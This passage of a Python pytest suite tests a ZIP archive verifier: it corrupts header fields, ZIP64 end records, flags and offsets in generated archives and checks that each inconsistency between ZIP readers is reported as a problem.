    signature not found") or 1, and 7-Zip exits 2. Four bytes changed there, and verify said OK."""
    path = write(tmp_path, sources())
    data = bytearray(path.read_bytes())
    end = data.rfind(b"PK\x05\x06")
    assert struct.unpack_from("<4H", data, end + 4) == (0, 0, 6, 6)
    struct.pack_into("<HH", data, end + at, *values)
    path.write_bytes(bytes(data))
    report = verify_archive(path)
    assert report.problems == [f"the archive's end of central directory record {says}, its central directory lists "
                               "6 on one disk (unzip and 7-Zip report the archive as broken; an export's end record "
                               "gives the directory's own count)"], report.text()


def test_a_zip64_end_record_with_the_classic_counts_at_0xffff_is_sound(tmp_path: Path) -> None:
    """Over 65,534 members the classic end record says 0xFFFF and the ZIP64 one the count, as the export
    (central.end_records) and zipfile write it: sound."""
    path, n = tmp_path / "many.zip", 65_600
    with zipfile.ZipFile(path, "w") as zf:
        for i in range(n):
            zf.writestr(f"media/{i:05d}", b"")
    data = path.read_bytes()
    assert struct.unpack_from("<4H", data, data.rfind(b"PK\x05\x06") + 4) == (0, 0, 0xFFFF, 0xFFFF)
    assert verify._end_record(zipfile.ZipFile(path), path) == []


@pytest.mark.parametrize(("zip64", "at", "value"), [(False, 14, 1), (False, 18, 2), (False, 22, 3), (True, 22, 3)])
def test_a_local_header_giving_wrong_sizes_before_its_data_descriptor_is_a_problem(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, zip64: bool, at: int, value: int) -> None:
    """Seen: "archive OK" for a real export whose README.md's local header gave a CRC-32 of 1, or sizes 2
    and 3, where an export writes 0 (its data descriptor has them): zipfile and stream_unzip never read
    them, but libarchive (bsdtar, Windows' tar) holds a non-zero one to the central directory and refused
    the archive ("Inconsistent uncompressed size: 5 in central directory, 3 in local header"). A ZIP64
    member's header says 0xFFFFFFFF and its zip64 extra field 0: a value there other than 0 or the
    directory's is a problem too."""
    if zip64:  # every member ZIP64; the header's sizes are 0xFFFFFFFF, so a 3 there is the one read
        monkeypatch.setattr(zipmember, "ZIP64_THRESHOLD", 0)
    path = write(tmp_path, sources())
    assert verify_archive(path).ok
    data = bytearray(path.read_bytes())
    assert data[6] & 0x8  # README.md, the first member, has a data descriptor
    struct.pack_into("<I", data, at, value)
    path.write_bytes(bytes(data))
    report = verify_archive(path)
    assert report.problems == ["README.md: its local header and the central directory disagree on its CRC-32 or sizes "
                               "(a streaming reader would extract other bytes than those checked)"], report.text()


def _last_entry(data: bytes) -> int:
    """Where the central directory's last entry begins."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return _central_record(bytearray(data), zf.start_dir, zf.infolist()[-1].filename.encode())


@pytest.mark.parametrize(("edit", "says"), [
    (lambda d: struct.pack_into("<H", d, _last_entry(d) + 30, 10),  # its extra field: 9 bytes, said to be 10
     "the central directory's entries take 398 bytes, not the 397 its end record gives (an entry's extra field or "
     "comment runs on into the end record: unzip, 7-Zip and bsdtar refuse the archive)"),
    (lambda d: struct.pack_into("<H", d, _last_entry(d) + 32, 3),  # a comment of 3 bytes it does not hold
     "the central directory's entries take 400 bytes, not the 397 its end record gives (an entry's extra field or "
     "comment runs on into the end record: unzip, 7-Zip and bsdtar refuse the archive)"),
    (lambda d: struct.pack_into("<H", d, len(d) - 2, 1),  # the end record's comment: 1 byte, none there
     "the archive's end record gives a comment of 1 bytes and 0 follow it (7-Zip reports the archive as broken, or "
     "warns of bytes after its end; an export's end record is its last 22 bytes)"),
    (lambda d: d.extend(b"#!/bin/sh\n"),  # bytes after the end record
     "the archive's end record gives a comment of 0 bytes and 10 follow it (7-Zip reports the archive as broken, or "
     "warns of bytes after its end; an export's end record is its last 22 bytes)")])
def test_a_directory_or_end_record_whose_lengths_the_bytes_do_not_bear_out_is_a_problem(
        tmp_path: Path, edit: Any, says: str) -> None:
    """Seen: "archive OK" for a real export whose last central directory entry said its extra field was
    one byte longer (or that it had a comment of 3 bytes), or whose end record said a comment of 1 byte,
    none there: zipfile reads the directory as one block of the size the end record gives, cutting an
    entry's fields short at its end, and takes whatever bytes follow the end record as its comment;
    unzip -t exits 1, 7-Zip 2 and bsdtar 1 on the first two, 7-Zip 2 on the third. Bytes after the end
    record (a script, another archive) were not named either."""
    path = write(tmp_path, sources())
    data = bytearray(path.read_bytes())
    edit(data)
    path.write_bytes(bytes(data))
    report = verify_archive(path)
    assert report.problems == [says], report.text()


@pytest.mark.parametrize("size", [6, 1])
def test_a_local_extra_field_whose_records_do_not_fill_it_is_a_problem(tmp_path: Path, size: int) -> None:
    """Seen: "archive OK" for a real export whose README.md local header said its extended-timestamp
    record ("UT", 5 bytes) held 6 bytes, or 1, within the 9 of its extra field: zipfile never reads the
    local extra field, while unzip -t exits 2 and bsdtar 1 on it."""
    path = write(tmp_path, sources())
    data = bytearray(path.read_bytes())
    assert data[30 + len(b"README.md"):][:4] == b"UT\x05\x00"  # the first member's local extra field
    struct.pack_into("<H", data, 30 + len(b"README.md") + 2, size)
    path.write_bytes(bytes(data))
    report = verify_archive(path)
    assert report.problems == ["README.md: its local header's extra field is malformed (its records do not fill its 9 "
                               "bytes: unzip and bsdtar refuse the archive; an export's fill it)"], report.text()


def _set_flag(data: bytearray, at: int, bit: int) -> None:
    struct.pack_into("<H", data, at, struct.unpack_from("<H", data, at)[0] | bit)


@pytest.mark.parametrize(("headers", "bit", "says"), [
    ("local", 0x100, "README.md: its local header and the central directory disagree on its flags (a streaming reader "
                     "would extract other bytes than those checked)"),  # 7-Zip exits 2
    ("central", 0x4000, "README.md: its local header and the central directory disagree on its flags (a streaming "
                        "reader would extract other bytes than those checked)"),
    ("both", 0x2000, "README.md: its flags set 0x2000 (enhanced deflating, bit 4, or a masked local header, bit 13), "
                     "which stream_unzip refuses (an export sets neither)"),
    ("both", 0x10, "README.md: its flags set 0x0010 (enhanced deflating, bit 4, or a masked local header, bit 13), "
                   "which stream_unzip refuses (an export sets neither)")])
def test_flags_a_reader_acts_on_are_a_problem(tmp_path: Path, headers: str, bit: int, says: str) -> None:
    """Seen: "archive OK" for a real export whose README.md's local header set flag bit 8 where the central
    directory did not (or the other way round): only the bits that change how data is read were
    compared, and 7-Zip exits 2 on any difference. And for bit 13 (a masked local header) or bit 4
    (enhanced deflating) set in both, which zipfile ignores and stream_unzip refuses
    (UnsupportedFlagsError). A bit no reader acts on, set in both (8, say), is no problem."""
    path = write(tmp_path, sources())
    original = path.read_bytes()
    with zipfile.ZipFile(path) as zf:
        central = _central_record(bytearray(original), zf.start_dir, b"README.md")
    data = bytearray(original)
    if headers in ("local", "both"):
        _set_flag(data, 6, bit)
    if headers in ("central", "both"):
        _set_flag(data, central + 8, bit)
    path.write_bytes(bytes(data))
    assert verify_archive(path).problems == [says]
    data = bytearray(original)  # the same bit in both headers, one no reader acts on
    _set_flag(data, 6, 0x100)
    _set_flag(data, central + 8, 0x100)
    path.write_bytes(bytes(data))
    assert verify_archive(path).ok, verify_archive(path).text()


def test_a_member_placed_on_another_disk_is_a_problem(tmp_path: Path) -> None:
    """Seen: "archive OK" for a real export whose README.md central directory entry said it starts on disk
    1: zipfile ignores the field, 7-Zip exits 2 on it."""
    path = write(tmp_path, sources())
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        struct.pack_into("<H", data, _central_record(data, zf.start_dir, b"README.md") + 34, 1)
    path.write_bytes(bytes(data))
    assert verify_archive(path).problems == ["README.md: its central directory entry places it on disk 1 (7-Zip reports "
                                             "the archive as broken; an export is one file, disk 0)"]


def test_a_member_needing_a_version_unzip_cannot_do_is_a_problem(tmp_path: Path) -> None:
    """Seen: "archive OK" for a real export whose README.md central directory entry said version 6.3 is
    needed to extract it: zipfile reads up to 6.3, Info-ZIP's unzip exits 81 ("need PK compat. v6.3
    (can do v4.6)"). An export writes 2.0, or 4.5 with ZIP64."""
    path = write(tmp_path, sources())
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        struct.pack_into("<H", data, _central_record(data, zf.start_dir, b"README.md") + 6, 63)
    path.write_bytes(bytes(data))
    assert verify_archive(path).problems == ["README.md: its central directory entry says version 6.3 is needed to "
                                             "extract it (unzip, which does 4.6, refuses it; a stored or deflated member "
                                             "needs 2.0, or 4.5 with ZIP64)"]


@pytest.mark.parametrize("offset", [2**48, 2**64 - 2**56])
def test_a_zip64_offset_past_the_members_is_a_problem_not_a_failure(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, offset: int) -> None:
    """Seen: a ZIP64 export whose README.md entry's zip64 extra field gave its offset as 2**48 made verify
    (and import) fail on seeking there (EINVAL past the file system's largest file, which the command
    line said as "NATS at nats://127.0.0.1:4222 … failed: Invalid argument", exit 1), and one near 2**64
    ended in a traceback (ValueError: cannot fit 'int' into an offset-sized integer)."""
    monkeypatch.setattr(zipmember, "ZIP64_THRESHOLD", 0)  # every member ZIP64: its offset in the zip64 extra field
    path = write(tmp_path, sources())
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        start = zf.start_dir
        extra = _central_record(data, start, b"README.md") + 46 + len(b"README.md")
    assert struct.unpack_from("<HH", data, extra) == (1, 24)  # sizes, then the offset
    struct.pack_into("<Q", data, extra + 20, offset)
    path.write_bytes(bytes(data))
    report = verify_archive(path)
    assert report.problems[0] == (f"README.md: the central directory places it at byte {offset}, past the members "
                                  f"(the directory begins at byte {start})"), report.text()
    assert not [p for p in report.problems if "data descriptor" in p]  # the others are chained without it


@pytest.mark.parametrize("cut", [50_000, None])  # inside media/b.jpg; after every member, in the directory
def test_a_truncated_archive_on_a_file_system_that_cannot_map_files_is_walked_all_the_same(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cut: int | None) -> None:
    """Seen: `grove-export verify /sys/kernel/notes` said "NATS at nats://127.0.0.1:4222 … failed: No such
    device", exit 1: the walk that names where an unreadable archive breaks maps the file, and a file
    system that cannot map files (sysfs; FUSE ones such as those that mount a phone or a cloud
    folder) raises ENODEV, which the command line took for a server's. Such a file is now read where
    the walk looks, in the same bounded memory, to the same line."""
    path = write(tmp_path, sources())
    data = path.read_bytes()
    with zipfile.ZipFile(path) as zf:
        at = zf.getinfo("media/b.jpg").header_offset + cut if cut else zf.start_dir + 10
    path.write_bytes(data[:at])
    mapped = verify_archive(path).problems
    assert mapped and ("is cut off" in mapped[0] or "central directory after member" in mapped[0]), mapped

    def cannot_map(*args: Any, **kw: Any) -> Any:
        raise OSError(errno.ENODEV, "No such device")

    monkeypatch.setattr(verify.mmap, "mmap", cannot_map)
    assert verify_archive(path).problems == mapped


def _zip64_ended(data: bytes) -> tuple[bytearray, int]:
    """The archive ended as an export past 4 GiB or 65,534 members ends (central.end_records): a ZIP64
    end record and its locator before the end record, whose directory size and offset say 0xFFFFFFFF;
    and where the ZIP64 end record begins."""
    end = data.rfind(b"PK\x05\x06")
    _, _, _, _, count, size, offset, _ = EOCD.unpack_from(data, end)
    record = ZIP64_EOCD.pack(ZIP64_EOCD_SIG, ZIP64_EOCD.size - 12, 45, 45, 0, 0, count, count, size, offset)
    locator = ZIP64_LOCATOR.pack(ZIP64_LOCATOR_SIG, 0, end, 1)
    return bytearray(data[:end] + record + locator + EOCD.pack(EOCD_SIG, 0, 0, count, count, MAX32, MAX32, 0)), end


def test_an_archive_ended_with_zip64_end_records_as_an_export_writes_them_is_sound(tmp_path: Path) -> None:
    path = tmp_path / "a.zip"
    path.write_bytes(bytes(_zip64_ended(write(tmp_path, sources()).read_bytes())[0]))
    assert zipfile.ZipFile(path).testzip() is None
    assert verify_archive(path).ok, verify_archive(path).text()


LOCATED = ("the archive's ZIP64 end locator points at byte {pointed} for its ZIP64 end record, which is at byte {at} "
           "and says it is {length} bytes long (zipfile reads the directory that record gives, unzip and bsdtar the "
           "one the byte the locator gives leads to; an export's locator gives its record, 56 bytes long)")


@pytest.mark.parametrize(("edit", "says"), [
    (lambda d, at: struct.pack_into("<Q", d, len(d) - 22 - 12, 0),  # the locator points at byte 0
     LOCATED.format(pointed=0, at="{at}", length=56)),
    (lambda d, at: struct.pack_into("<Q", d, at + 4, 60),  # the record says it holds 16 bytes of extensible data
     LOCATED.format(pointed="{at}", at="{at}", length=72)),
    (lambda d, at: struct.pack_into("<I", d, len(d) - 22 - 4, 0),  # the locator's number of disks: 0, not 1
     "the archive's ZIP64 end locator says it is 0 disks (unzip reads no member: \"attempt to seek before beginning "
     "of zipfile\"; an export is 1)"),
    (lambda d, at: struct.pack_into("<H", d, len(d) - 14, 0xFFFF),  # its count on this disk 0xFFFF, in all 6
     "the archive's end record says 65535 members on this disk and 6 in all (7-Zip reports the archive as broken; an "
     "export's end record gives one count twice, 0xFFFF twice beside a ZIP64 end record)"),
    (lambda d, at: struct.pack_into("<I", d, len(d) - 6, at - 1),  # the end record's offset: a number, not 0xFFFFFFFF
     "the archive's end record places its central directory at byte {before} (4294967295 bytes), its ZIP64 end "
     "record at byte {cd} (397 bytes), which zipfile reads (unzip and 7-Zip report the archive as broken; an "
     "export's end record gives the same, or 0xFFFFFFFF)")])
def test_zip64_end_records_that_locate_another_directory_are_a_problem(tmp_path: Path, edit: Any, says: str) -> None:
    """Seen: "archive OK" for an archive whose ZIP64 end locator pointed elsewhere than at its ZIP64 end
    record. zipfile (3.11; 3.12 before CVE-2025-8291's fix) takes the 56 bytes before the locator for
    that record, never reading where the locator points nor the record's own length; unzip and bsdtar go
    where the locator points: at a record planted in a stored member's data, giving a directory planted
    there too, they extracted posts/a.md with other bytes than zipfile read (exit 0; 7-Zip exited 2).
    And with a ZIP64 end record zipfile takes the directory's offset from it alone: an end record giving
    another one than 0xFFFFFFFF made unzip exit 12 and 7-Zip 2. A locator saying 0 disks, which zipfile
    takes for 1, made unzip exit 3 having read nothing ("attempt to seek before beginning of zipfile"), and
    an end record counting 0xFFFF members on its disk and 6 in all, which zipfile never reads beside a
    ZIP64 end record, made 7-Zip exit 2 ("Headers Error")."""
    data, at = _zip64_ended(write(tmp_path, sources()).read_bytes())
    cd = struct.unpack_from("<Q", data, at + 48)[0]
    edit(data, at)
    path = tmp_path / "b.zip"
    path.write_bytes(bytes(data))
    report = verify_archive(path)
    assert report.problems == [says.format(at=at, before=at - 1, cd=cd)], report.text()


@pytest.mark.parametrize("inside", ["media/b.jpg/x.jpg", "media/B.JPG/x/y.jpg"])
def test_a_file_where_another_member_needs_a_folder_is_a_problem(tmp_path: Path, inside: str) -> None:
    """Seen: "archive OK" for an archive holding media/b.jpg and media/b.jpg/x.jpg, each listed with its
    checksum: unzip made the file and failed on the other ("checkdir error: media/b.jpg exists but is not
    directory", exit 2), 7-Zip (exit 2) and bsdtar (exit 1) likewise, so the archive never unpacked
    whole. An export's names allocator keeps files and folders apart, in any case."""
    src = {**sources(), inside: b"under a file"}
    report = verify_archive(write(tmp_path, src))
    assert report.problems == [f"media/b.jpg: a file, where {inside} needs a folder (an unpacker makes one of the two "
                               "and cannot make the other; an export keeps its files and folders apart)"], report.text()


@pytest.mark.parametrize("past", [46, 100])
def test_an_end_record_placing_the_directory_past_where_it_is_is_a_problem(tmp_path: Path, past: int) -> None:
    """Seen: "archive OK" for an export whose end record placed its central directory 46 bytes past where
    it is, every entry placing its member as far past its own: zipfile moves the directory and every
    member back by the difference and read them all, while unzip refused the archive ("missing 46 bytes
    in zipfile", "invalid zip file with overlapped components", exit 12). 7-Zip and bsdtar read it."""
    path = write(tmp_path, sources())
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        start, at = zf.start_dir, zf.start_dir
        for info in zf.infolist():
            struct.pack_into("<I", data, at + 42, info.header_offset + past)
            at += 46 + sum(struct.unpack_from("<HHH", data, at + 28))
    struct.pack_into("<I", data, len(data) - 6, start + past)
    path.write_bytes(bytes(data))
    report = verify_archive(path)
    assert report.problems == [f"the archive's end record places its central directory at byte {start + past}, {past} "
                               "bytes past where it is (zipfile moves it, and every member, back by as many and reads "
                               f"them there; unzip refuses the archive, missing {past} bytes; an export's end record "
                               "gives its directory's byte)"], report.text()


def test_a_stored_member_with_more_bytes_than_its_size_is_a_problem(tmp_path: Path) -> None:
    """Seen: "archive OK" for an archive whose README.md was stored (an export deflates, but `zip` stores
    what does not shrink) with 20 bytes after its own, its entries giving the 20 more as compressed bytes
    and its size and CRC-32 as those of its own: zipfile reads its size and checks those, while unzip
    wrote all of them ("ucsize 5 <> csize 25 for STORED entry", exit 2), 7-Zip ("some data after the
    end of the payload data") and bsdtar ("uncompressed data is wrong size") refused it and stream_unzip raised."""
    with zipfile.ZipFile(write(tmp_path, sources())) as zf:
        data = {n: zf.read(n) for n in zf.namelist()}
    path = tmp_path / "stored.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for n, b in data.items():
            out.writestr(n, b + b"\n<!-- more bytes -->" if n == "README.md" else b,
                         compress_type=zipfile.ZIP_STORED if n == "README.md" else None)
    raw = bytearray(path.read_bytes())
    readme = data["README.md"]
    assert raw[30:39] == b"README.md"  # the first member: its CRC-32 at 14, its size at 22 (the directory's: 16, 24)
    struct.pack_into("<I", raw, 14, zlib.crc32(readme))
    struct.pack_into("<I", raw, 22, len(readme))
    with zipfile.ZipFile(path) as zf:
        entry = _central_record(raw, zf.start_dir, b"README.md")
    struct.pack_into("<I", raw, entry + 16, zlib.crc32(readme))
    struct.pack_into("<I", raw, entry + 24, len(readme))
    path.write_bytes(bytes(raw))
    report = verify_archive(path)
    assert report.problems == [f"README.md: stored, yet its entry gives {len(readme) + 20} bytes of data for its "
                               f"{len(readme)} (unzip writes them all, 7-Zip and bsdtar refuse the archive; a stored "
                               "member's data is its bytes)"], report.text()


def test_a_local_zip64_record_cut_short_by_its_extra_field_is_a_problem_not_a_traceback(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Seen: a traceback (struct.error), from verify and from import, for an export whose every member
    is ZIP64 and whose README.md's local header said its extra field was 13 bytes, not 29: its zip64
    record (16 bytes of sizes) then ran on past the field, and was read all the same."""
    monkeypatch.setattr(zipmember, "ZIP64_THRESHOLD", 0)  # every member ZIP64: a zip64 record in its local header
    path = write(tmp_path, sources())
    data = bytearray(path.read_bytes())
    assert data[30 + len(b"README.md"):][:2] == b"\x01\x00"  # the zip64 record comes first
    xlen = struct.unpack_from("<H", data, 28)[0]
    struct.pack_into("<H", data, 28, 13)
    path.write_bytes(bytes(data))
    report = verify_archive(path)
    assert report.problems[:2] == [
        "README.md: its local header's extra field is malformed (its records do not fill its 13 bytes: unzip and "
        "bsdtar refuse the archive; an export's fill it)",
        "README.md: its local header and the central directory disagree on its CRC-32 or sizes (a streaming reader "
        "would extract other bytes than those checked)"], (xlen, report.text())


def test_a_member_said_to_need_vms_to_extract_is_a_problem(tmp_path: Path) -> None:
    """Seen: "archive OK" for an export whose README.md's central directory entry had 2 (VMS) as the
    upper byte of its "version needed to extract", which zipfile reads as a reserved byte and ignores:
    `unzip` asked "README.md: stored in VMS format. Extract anyway? (y/n)" and, with no one to answer,
    left README.md out (exit 81; `unzip -t`, 7-Zip and bsdtar passed it)."""
    path = write(tmp_path, sources())
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        data[_central_record(data, zf.start_dir, b"README.md") + 7] = 2
    path.write_bytes(bytes(data))
    assert verify_archive(path).problems == [
        "README.md: its central directory entry says VMS is needed to extract it (unzip asks whether to extract it "
        "anyway and, with no one to answer, leaves it out, exit 81; an export's entries say no system there, 0)"]
